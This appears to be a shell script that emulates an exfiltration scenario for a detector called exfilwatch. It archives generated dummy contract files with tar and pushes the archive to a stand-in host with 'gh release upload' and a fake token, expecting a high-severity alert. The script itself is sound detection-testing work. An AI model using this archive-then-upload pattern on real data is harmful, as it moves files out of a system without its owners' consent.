#!/bin/sh
# Emulates scenario gh-release-upload-archive (examples/scenarios/gh-release-upload-archive.yaml):
# User uploads archived with tar, then attached to a GitHub release with gh.
#
# gh speaks HTTPS to a GitHub (Enterprise) API only, so against the forge-api stand-in the upload stops
# at its first API call; exfilwatch judges the push when `gh release upload` starts after the archive was
# read. Run it in an image that has gh and tar (set EMU_GH_IMAGE in the Job); point GH_HOST at a GitHub
# Enterprise test instance of your own to complete the upload. The token is fake.
#
# Image: any image with gh and tar (for example one built FROM alpine with `apk add github-cli`)
# Job: no — no official gh image: run it in an image of your own that has gh (README.md).
# Expected alert: bulk-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need gh tar head
work="$EMU_WORKDIR/gh-release-upload-archive"
rm -rf "$work"
emu_dummy_files "$work/srv/contracts/2025" 120 88
tar czf "$work/r.tgz" -C "$work/srv" contracts
: "${GH_HOST:=${EMU_FORGE_URL#*://}}"
export GH_HOST
emu_check_target "$GH_HOST"
GH_ENTERPRISE_TOKEN=FAKE-EXAMPLE-TOKEN gh release upload v0.0.1 "$work/r.tgz" --repo "$GH_HOST/docs-archive-7731/static" --clobber ||
  emu_log "gh could not complete the upload against the stand-in (expected); the attempt is what exfilwatch judges"
rm -rf "$work"
emu_expect bulk-read-then-push high
